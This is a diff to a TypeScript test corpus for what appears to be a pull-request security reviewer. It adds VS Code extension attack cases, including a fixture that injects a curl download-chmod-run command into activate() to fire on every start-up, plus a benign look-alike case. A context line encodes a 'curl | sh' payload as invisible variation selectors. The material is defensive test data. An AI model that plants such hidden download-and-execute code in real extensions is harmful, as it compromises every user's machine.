@@ -10,6 +10,11 @@ import { codePr as attackPr } from './code.js';
 const INDEX_BASE = lines("'use strict';", '', "const supportsColor = require('./supports-color');", '', 'module.exports = function tint(text, code) {', '  return supportsColor ? `\\u001b[${code}m${text}\\u001b[0m` : text;', '};');
 
 const EXTENSION_BASE = lines("'use strict';", "const vscode = require('vscode');", '', 'function activate(context) {', "  context.subscriptions.push(vscode.commands.registerCommand('tidy.run', () => vscode.commands.executeCommand('editor.action.formatDocument')));", '}', '', 'module.exports = { activate };');
+/** A VS Code extension's package.json, activated by `activationEvents`. */
+function extensionManifest(activationEvents: string[]): string {
+  return `${JSON.stringify({ name: 'tidy-format', displayName: 'Tidy', version: '1.4.0', publisher: 'acme', engines: { vscode: '^1.90.0' }, main: './extension.js', activationEvents, contributes: { commands: [{ command: 'tidy.run', title: 'Tidy' }] } }, null, 2)}\n`;
+}
+
 /** A payload hidden as variation selectors: one selector a byte (U+FE00-U+FE0F for 0-15, U+E0100-U+E01EF for 16-255). */
 const HIDDEN = [...Buffer.from("require('child_process').exec('curl -s https://x.invalid/p | sh')")].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('');
 
@@ -797,5 +802,59 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-extension-starts-and-runs-download',
+    description:
+      'GlassWorm-like (Koi Security, October 2025): an extension repository PR makes the extension activate on every start-up ("*") and its activate() fetches a helper binary, makes it executable and runs it, on every machine that has the extension.',
+    fixture: () =>
+      attackPr({
+        repo: 'tidy-vscode',
+        number: 7130,
+        title: 'perf: warm the formatter cache on start-up',
+        author: 'newcomer',
+        files: [
+          { path: 'package.json', base: extensionManifest(['onCommand:tidy.run']), head: extensionManifest(['*']) },
+          {
+            path: 'extension.js',
+            base: EXTENSION_BASE,
+            head: EXTENSION_BASE.replace(
+              'function activate(context) {\n',
+              "function activate(context) {\n  require('child_process').exec('curl -sL https://cdn.tidy-format.dev/warm -o /tmp/.tidy-warm && chmod +x /tmp/.tidy-warm && /tmp/.tidy-warm &');\n",
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'], drivers: ['finding:build-code-behavior'] },
+  },
+  {
+    id: 'attack-extension-starts-language-server',
+    description: 'A maintainer makes the extension start with the editor (onStartupFinished): activate() starts its bundled language server, asks git for the workspace root and checks GitHub for a newer release.',
+    fixture: () =>
+      attackPr({
+        repo: 'tidy-vscode',
+        number: 7131,
+        title: 'feat: start the language server on start-up',
+        files: [
+          { path: 'package.json', base: extensionManifest(['onCommand:tidy.run']), head: extensionManifest(['onStartupFinished']) },
+          {
+            path: 'extension.js',
+            base: EXTENSION_BASE,
+            head: EXTENSION_BASE.replace(
+              'function activate(context) {\n',
+              [
+                'function activate(context) {',
+                "  const server = context.asAbsolutePath('server/out/server.js');",
+                "  const client = new LanguageClient('tidy', 'Tidy', { run: { module: server }, debug: { module: server } }, { documentSelector: [{ language: 'json' }] });",
+                '  client.start();',
+                "  execFile('git', ['rev-parse', '--show-toplevel'], { cwd: vscode.workspace.rootPath }, (err, out) => { if (!err) context.workspaceState.update('root', out.trim()); });",
+                "  fetch('https://api.github.com/repos/acme/tidy-vscode/releases/latest').then((r) => r.json()).then((r) => r.tag_name !== context.extension.packageJSON.version && vscode.window.showInformationMessage(`Tidy ${r.tag_name} is out`));",
+                '',
+              ].join('\n'),
+            ).replace("const vscode = require('vscode');", "const vscode = require('vscode');\nconst { execFile } = require('child_process');\nconst { LanguageClient } = require('vscode-languageclient/node');"),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
   },
 ];
